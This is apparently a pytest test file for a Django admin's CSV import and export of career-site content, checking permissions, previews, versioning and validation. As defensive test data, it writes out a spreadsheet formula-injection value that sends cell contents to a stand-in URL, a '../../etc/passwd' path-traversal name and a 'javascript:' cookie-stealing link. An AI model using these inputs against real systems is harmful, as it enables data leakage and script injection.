"""Editors export skills, tools and learning resources as CSV from the admin, and import them
back: a preview first, the admin's checks, all or nothing, rows matched by slug, a version in
each changed row's history, and cached pages refreshed."""

import csv
import io

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from reversion.models import Version

from careers.models import Skill, SkillGroup, Tool, ToolCategory
from core import bulk
from core.models import ContentVersion
from roadmaps.models import Resource
from tests.content import build_content, build_roadmaps
from tests.html import attribute, select, text

pytestmark = pytest.mark.django_db

TOOL_HEADER = "slug,name,category,description\n"


def _urls(model) -> tuple[str, str, str, str]:
    prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
    return tuple(reverse(f"{prefix}_{view}") for view in ("changelist", "export", "import"))


def preview(client, model, content: str | bytes, name: str = "rows.csv"):
    """Upload a file on the model's import page, as the form does: its preview page."""
    upload = SimpleUploadedFile(
        name, content.encode() if isinstance(content, str) else content, "text/csv"
    )
    return client.post(_urls(model)[2], {"import_file": upload, "format": "0", "resource": "0"})


def confirm(client, model, previewed):
    """Press "Confirm import" on a preview page."""
    form = previewed.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    prefix = f"admin:{model._meta.app_label}_{model._meta.model_name}"
    return client.post(reverse(f"{prefix}_process_import"), data)


def import_file(client, model, content: str, name: str = "rows.csv"):
    previewed = preview(client, model, content, name)
    assert previewed.status_code == 200
    assert previewed.context.get("confirm_form"), problems(previewed)
    return confirm(client, model, previewed)


def problems(response) -> list[str]:
    """What the import page says is wrong, as the editor reads it."""
    return [
        text(item)
        for item in select(response.content, "ul.errorlist li")
        + select(response.content, "ul.messagelist li")
    ]


def export(client, model, **query) -> list[dict]:
    url = _urls(model)[1]
    if query:
        url += "?" + "&".join(f"{key}={value}" for key, value in query.items())
    response = client.post(url, {"format": "0", "resource": "0"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _tools_csv(*rows: str) -> str:
    return TOOL_HEADER + "".join(f"{row}\n" for row in rows)


@pytest.fixture
def category():
    return ToolCategory.objects.create(slug="tracking", name="Experiment tracking")


# --- Reaching it ----------------------------------------------------------------------------


@pytest.mark.parametrize("model", [Skill, Tool, Resource])
def test_an_editor_finds_import_and_export_on_the_list(editor_client, model):
    changelist, export_url, import_url, *_ = _urls(model)
    html = editor_client.get(changelist).content
    assert select(html, f'ul.object-tools a[href="{import_url}"]')
    [link] = select(html, "ul.object-tools a.export_link")
    assert attribute(link, "href").startswith(export_url)
    assert editor_client.get(import_url).status_code == 200
    assert editor_client.get(export_url).status_code == 200


def test_a_learner_cannot_import_or_export(client, learner):
    client.force_login(learner)
    for url in _urls(Tool)[1:]:
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_staff_who_may_only_view_tools_can_export_but_not_import(client, django_user_model):
    viewer = django_user_model.objects.create_user("viewer", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_tool"))
    client.force_login(viewer)
    changelist, export_url, import_url = _urls(Tool)
    assert client.get(export_url).status_code == 200
    assert client.get(import_url).status_code == 403
    assert preview(client, Tool, _tools_csv("x,X,tracking,")).status_code == 403
    assert not select(client.get(changelist).content, f'a[href="{import_url}"]')


def test_staff_who_may_change_but_not_add_tools_cannot_import(client, django_user_model):
    user = django_user_model.objects.create_user("changer", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_tool", "change_tool"]))
    client.force_login(user)
    assert client.get(_urls(Tool)[2]).status_code == 403


# --- Export ---------------------------------------------------------------------------------


def test_the_export_names_rows_and_references_by_slug_not_by_id(editor_client):
    build_content()
    rows = export(editor_client, Tool)
    assert list(rows[0]) == ["slug", "name", "category", "description"]
    assert {row["slug"] for row in rows} == set(Tool.objects.values_list("slug", flat=True))
    assert {row["category"] for row in rows} == {"category"}


def test_the_export_follows_the_lists_filters(editor_client):
    build_content()
    Skill.objects.filter(slug="skill-1").update(group=SkillGroup.SOFT)
    rows = export(editor_client, Skill, group__exact=SkillGroup.SOFT)
    assert [row["slug"] for row in rows] == ["skill-1"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(editor_client, start):
    Skill.objects.create(slug="s", name="S", description=f'{start}HYPERLINK("http://x?"&A1)')
    [row] = export(editor_client, Skill)
    assert row["description"] == f'\'{start}HYPERLINK("http://x?"&A1)'


def test_values_starting_with_a_dash_or_a_quote_survive_an_export_and_an_import(editor_client):
    descriptions = {
        "dash": "- first point\n- second point",
        "equals": "=1+1 is not a formula here",
        "quoted": "'already quoted",
        "quoted-dash": "'-quote then dash",
    }
    for slug, description in descriptions.items():
        Skill.objects.create(slug=slug, name=slug.title(), description=description)
    exported = export(editor_client, Skill)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(exported[0]))
    writer.writeheader()
    writer.writerows(exported)
    previewed = preview(editor_client, Skill, out.getvalue())
    rows = previewed.context["result"].rows
    assert [row.import_type for row in rows] == ["skip"] * len(descriptions)
    # An edited row keeps its text exactly too.
    edited = out.getvalue().replace("Dash,", "Dashes,")
    assert import_file(editor_client, Skill, edited).status_code == 302
    for slug, description in descriptions.items():
        assert Skill.objects.get(slug=slug).description == description
    assert Skill.objects.get(slug="dash").name == "Dashes"


# --- Import ---------------------------------------------------------------------------------


def test_importing_three_tools_previews_them_then_adds_them_on_confirmation(
    editor_client, category
):
    content = _tools_csv(
        "mlflow,MLflow,tracking,Tracks experiments",
        "wandb,Weights & Biases,tracking,",
        "neptune,Neptune,tracking,Metadata store",
    )
    previewed = preview(editor_client, Tool, content, "tools.csv")
    assert previewed.status_code == 200
    assert [row.import_type for row in previewed.context["result"].rows] == ["new"] * 3
    assert "Weights &amp; Biases" in previewed.content.decode()
    assert not Tool.objects.exists()  # a preview saves nothing

    version = ContentVersion.current()
    response = confirm(editor_client, Tool, previewed)
    assert response.status_code == 302
    assert response["Location"] == _urls(Tool)[0]
    assert set(Tool.objects.values_list("slug", flat=True)) == {"mlflow", "wandb", "neptune"}
    assert Tool.objects.get(slug="wandb").category == category
    assert ContentVersion.current() > version
    messages = [str(m) for m in response.wsgi_request._messages]
    assert messages == ["Import finished: 3 new, 0 updated, 0 deleted and 0 skipped tools."]


def test_each_imported_row_gets_a_version_of_its_own_in_its_history(editor_client, editor):
    category = ToolCategory.objects.create(slug="tracking", name="Tracking")
    Tool.objects.create(slug="mlflow", name="MLflow", category=category, description="Old")
    Tool.objects.create(slug="dvc", name="DVC", category=category, description="Versions data")
    content = _tools_csv(
        "mlflow,MLflow,tracking,Tracks experiments",
        "dvc,DVC,tracking,Versions data",
        "wandb,Weights & Biases,tracking,",
    )
    assert import_file(editor_client, Tool, content, "tools.csv").status_code == 302

    mlflow, dvc, wandb = (Tool.objects.get(slug=slug) for slug in ("mlflow", "dvc", "wandb"))
    assert mlflow.description == "Tracks experiments"
    [changed] = Version.objects.get_for_object(mlflow)
    assert changed.revision.user == editor
    assert changed.revision.comment == "Imported from tools.csv (row 1)."
    assert changed.field_dict["description"] == "Tracks experiments"
    assert len(Version.objects.get_for_object(wandb)) == 1
    # Unchanged rows are skipped: no version, no log entry.
    assert not Version.objects.get_for_object(dvc).exists()
    # One revision per row, so undoing one row from its history leaves the others.
    assert changed.revision_id != Version.objects.get_for_object(wandb).get().revision_id
    logged = LogEntry.objects.filter(user=editor).values_list("object_repr", flat=True)
    assert sorted(logged) == ["MLflow", "Weights & Biases"]


def test_a_row_is_matched_by_its_slug_so_an_import_changes_the_same_skill(editor_client):
    skill = Skill.objects.create(slug="sql", name="SQL", description="")
    content = "id,slug,name,group,description\n999,sql,SQL,technical,Query data\n"
    assert import_file(editor_client, Skill, content).status_code == 302
    assert Skill.objects.get().pk == skill.pk  # the id column is not read
    assert Skill.objects.get().description == "Query data"


def test_an_import_shows_at_once_on_the_cached_public_pages(client, editor_client):
    build_content()
    assert client.get(reverse("careers:skill_detail", args=["skill-0"])).status_code == 200
    content = "slug,name,group,description\nskill-0,Skill 0,technical,Freshly imported\n"
    assert import_file(editor_client, Skill, content).status_code == 302
    page = client.get(reverse("careers:skill_detail", args=["skill-0"]))
    assert "Freshly imported" in page.content.decode()


def test_a_file_saved_by_a_spreadsheet_with_crlf_line_endings_changes_nothing(editor_client):
    Skill.objects.create(slug="sql", name="SQL", description="Line one\nLine two")
    content = 'slug,name,group,description\r\nsql,SQL,technical,"Line one\r\nLine two"\r\n'
    previewed = preview(editor_client, Skill, content)
    assert [row.import_type for row in previewed.context["result"].rows] == ["skip"]


# --- Refusals -------------------------------------------------------------------------------


def test_one_invalid_row_is_explained_and_nothing_is_imported(editor_client, category):
    content = _tools_csv(
        "mlflow,MLflow,tracking,",
        "wandb,Weights & Biases,tracking,",
        "bad slug!,Neptune,tracking,",
    )
    previewed = preview(editor_client, Tool, content)
    assert previewed.status_code == 200
    assert "confirm_form" not in previewed.context
    assert any(p.startswith("slug:") and "valid “slug”" in p for p in problems(previewed))
    heading = text(select(previewed.content, "h2")[-1])
    assert heading == "Nothing was imported: fix 1 row and upload the file again"
    assert not Tool.objects.exists()


def test_an_unknown_category_slug_says_which_slugs_exist(editor_client, category):
    previewed = preview(editor_client, Tool, _tools_csv("mlflow,MLflow,trackingg,"))
    assert problems(previewed) == [
        "category: No tool category has the slug “trackingg”. Known slugs: tracking."
    ]
    assert not Tool.objects.exists()


def test_an_over_long_name_is_refused_as_the_form_refuses_it(editor_client, category):
    previewed = preview(editor_client, Tool, _tools_csv(f"long,{'N' * 81},tracking,"))
    assert problems(previewed) == ["name: Ensure this value has at most 80 characters (it has 81)."]


def test_a_second_spelling_of_a_tool_is_refused_as_the_form_refuses_it(editor_client, category):
    Tool.objects.create(slug="scikit-learn", name="Scikit-learn", category=category)
    previewed = preview(editor_client, Tool, _tools_csv("sklearn,scikit learn,tracking,"))
    assert problems(previewed) == [
        "name: “Scikit-learn” already exists; use it rather than a new spelling."
    ]


def test_an_unknown_skill_group_is_refused(editor_client):
    previewed = preview(editor_client, Skill, "slug,name,group,description\nsql,SQL,magic,\n")
    assert problems(previewed) == ["group: Value 'magic' is not a valid choice."]


def test_a_file_over_the_size_limit_is_refused_with_a_message(editor_client, category):
    huge = _tools_csv(*(f"tool-{n},Tool {n},tracking,{'x' * 150}" for n in range(10_000)))
    assert len(huge) > 1.5 * bulk.MAX_IMPORT_BYTES
    response = preview(editor_client, Tool, huge)
    assert response.status_code == 302
    page = editor_client.get(response["Location"])
    assert any("an import takes at most 1.0 MB" in p for p in problems(page))
    assert not Tool.objects.exists()


def test_a_file_just_over_the_size_limit_is_refused_by_the_form(editor_client, category):
    row = "tool,Tool,tracking,"
    content = _tools_csv(row + "x" * (bulk.MAX_IMPORT_BYTES - len(TOOL_HEADER) - len(row)))
    response = preview(editor_client, Tool, content)
    assert response.status_code == 200
    assert any("an import takes at most 1.0 MB" in p for p in problems(response))


def test_a_file_that_is_not_csv_text_is_refused_with_a_message(editor_client):
    response = preview(editor_client, Tool, b"\xff\xfe\x00binary\x00")
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert any("while trying to read file" in p for p in problems(response))


def test_a_confirmation_for_a_file_that_was_never_previewed_is_refused(editor_client, category):
    url = reverse("admin:careers_tool_process_import")
    for name, format_ in [("not-a-preview", "0"), ("../../etc/passwd", "0")]:
        data = {"import_file_name": name, "original_file_name": "x.csv", "format": format_}
        response = editor_client.post(url, data)
        assert response.status_code == 302
        assert response["Location"] == _urls(Tool)[2]
    previewed = preview(editor_client, Tool, _tools_csv("mlflow,MLflow,tracking,"))
    data = dict(previewed.context["confirm_form"].initial)
    for bad in ({"format": "7"}, {"resource": "3"}):
        assert editor_client.post(url, {**data, **bad}).status_code == 302
    assert not Tool.objects.exists()


def test_a_previewed_file_that_no_longer_passes_is_not_imported_at_all(editor_client, category):
    # The preview passes while the category exists; it is gone before the confirmation.
    ToolCategory.objects.create(slug="ml", name="ML")
    previewed = preview(editor_client, Tool, _tools_csv("mlflow,MLflow,tracking,", "dvc,DVC,ml,"))
    ToolCategory.objects.filter(slug="ml").delete()
    response = confirm(editor_client, Tool, previewed)
    assert response.status_code == 302 and response["Location"] == _urls(Tool)[2]
    assert not Tool.objects.exists()
    page = editor_client.get(response["Location"])
    assert any(p.startswith("Nothing was imported") for p in problems(page))


# --- Learning resources ----------------------------------------------------------------------


@pytest.fixture
def roadmap():
    roles = build_content()
    return build_roadmaps(roles[:1])[0]


def test_learning_resources_are_named_by_roadmap_stage_and_step_positions(editor_client, roadmap):
    first = Resource.objects.select_related("step__level").order_by("pk").first()
    first.title = "A title first in the list"
    first.save()
    rows = export(editor_client, Resource)
    assert rows[0] == {
        "roadmap": "role-0",
        "stage": first.step.level.stage,
        "step": str(first.step.position),
        "step_name": first.step.name,
        "position": "1",
        "title": "A title first in the list",
        "url": "https://example.com/docs",
        "is_free": "1",
    }
    assert not {"id", "link_status", "link_checked_at"} & set(rows[0])


def test_an_exported_resources_file_imports_back_without_a_change(editor_client, roadmap):
    rows = export(editor_client, Resource)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    previewed = preview(editor_client, Resource, out.getvalue())
    assert {row.import_type for row in previewed.context["result"].rows} == {"skip"}


def test_a_resource_is_added_to_a_step_and_another_changed(editor_client, roadmap):
    header = "roadmap,stage,step,position,title,url,is_free\n"
    content = (
        header
        + "role-0,beginner,0,1,Docs,https://example.com/new-docs,1\n"
        + "role-0,beginner,0,2,A course,https://example.com/course,no\n"
    )
    assert import_file(editor_client, Resource, content).status_code == 302
    step = roadmap.levels.get(stage="beginner").steps.get(position=0)
    assert list(step.resources.values_list("position", "url", "is_free")) == [
        (1, "https://example.com/new-docs", True),
        (2, "https://example.com/course", False),
    ]


def test_a_javascript_address_is_refused_and_nothing_is_imported(editor_client, roadmap):
    header = "roadmap,stage,step,position,title,url,is_free\n"
    content = (
        header
        + "role-0,beginner,0,2,Fine,https://example.com/fine,1\n"
        + "role-0,beginner,0,3,Evil,javascript:alert(document.cookie),1\n"
    )
    previewed = preview(editor_client, Resource, content)
    assert problems(previewed) == [
        "url: Enter a full web address that starts with https:// (or http://)."
    ]
    assert not Resource.objects.filter(position__in=[2, 3]).exists()


def test_a_resource_on_a_step_that_does_not_exist_is_explained(editor_client, roadmap):
    header = "roadmap,stage,step,position,title,url,is_free\n"
    content = (
        header
        + "no-such-role,beginner,0,1,Docs,https://example.com/,1\n"
        + "role-0,expert,0,1,Docs,https://example.com/,1\n"
        + "role-0,beginner,42,1,Docs,https://example.com/,maybe\n"
    )
    previewed = preview(editor_client, Resource, content)
    assert problems(previewed) == [
        "step: The beginner level of the “no-such-role” roadmap has no step at position 0.",
        "step: The stage must be one of beginner, intermediate, advanced, not “expert”.",
        "step: The beginner level of the “role-0” roadmap has no step at position 42.",
        "is_free: Write 1 (yes) or 0 (no), not “maybe”.",
    ]
